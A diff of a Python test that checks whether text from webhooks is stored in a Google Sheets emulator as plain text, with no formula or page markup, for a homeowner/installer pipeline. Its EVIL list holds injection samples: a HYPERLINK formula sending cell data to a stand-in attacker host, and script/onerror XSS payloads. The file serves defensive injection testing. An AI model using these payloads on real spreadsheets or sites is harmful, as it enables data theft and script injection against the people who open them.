@@ -1,7 +1,7 @@
 """What people and programs write is text, from the webhook to the eye: no formula, no page."""
 
-import json
 import re
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -12,11 +12,9 @@ from emulator import Emulator
 from tests.made_up import comment, document, milestone, task, uuid
 from tests.world import World, wait_for
 
-FORMULA = re.compile(r'"formulaValue": "((?:[^"\\\\]|\\\\.)*)"')
-COUNTED = re.compile(
-    r"=COUNTIFS\(Brightsheet_Milestone;\$A\d+(;Brightsheet_Status;[A-Z]+\$1)?"
-    r';Brightsheet_Site;\\"<>Copy of \*\\"\)'
-)
+_COUNT = r"COUNTUNIQUEIFS\(Brightsheet_Site;Brightsheet_Milestone;\$A\d+"
+_STATUS = r";Brightsheet_Status;[A-Z]+\$1"
+COUNTED = re.compile(rf'={_COUNT}(\)|{_STATUS}\)\+{_COUNT}{_STATUS}&":\*"\))')
 EVIL = [
     '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
     '<script>alert(1)</script><img src=x onerror="alert(1)">',
@@ -39,8 +37,20 @@ def webhook(job: int, evil: str) -> dict[str, Any]:
     )
 
 
+def formulas_in(tree: Any) -> Iterator[str]:
+    """Give every formula that stands in a spreadsheet's resource."""
+    if isinstance(tree, dict):
+        if "formulaValue" in tree.get("userEnteredValue", {}):
+            yield tree["userEnteredValue"]["formulaValue"]
+        tree = list(tree.values())
+    if isinstance(tree, list):
+        for inner in tree:
+            yield from formulas_in(inner)
+
+
 def test_a_text_stands_in_the_sheet_as_it_was_sent(tmp_path: Path, sqlite_url: str) -> None:
-    """A homeowner's or an installer's words would else run in the sheet of whoever opens it."""
+    """Catches a text that becomes a formula or a page: a homeowner's or an installer's words would
+    run in the sheet of whoever opens it."""
     with Emulator() as google:
         world = World(google, tmp_path, sqlite_url, DRIVE_FOLDER_ID="")
         with world.receiver().ready():
@@ -54,9 +64,9 @@ def test_a_text_stands_in_the_sheet_as_it_was_sent(tmp_path: Path, sqlite_url: s
             assert evil in row[f"{evil} documents"].text
         where, query = {"spreadsheetId": world.spreadsheet}, MultiDict({"includeGridData": "true"})
         stored = google.sheets.handle("sheets.spreadsheets.get", where, query, None, "onlooker")
-        assert "stringValue" in str(stored)
         # The pipeline counts by formulas of ours, which name cells and no text.
-        formulas = FORMULA.findall(json.dumps(stored))
+        formulas = list(formulas_in(stored))
+        assert formulas
         assert [one for one in formulas if not COUNTED.fullmatch(one)] == []
         page = requests.get(f"{google.url}/spreadsheets/d/{world.spreadsheet}", timeout=10)
         assert page.ok
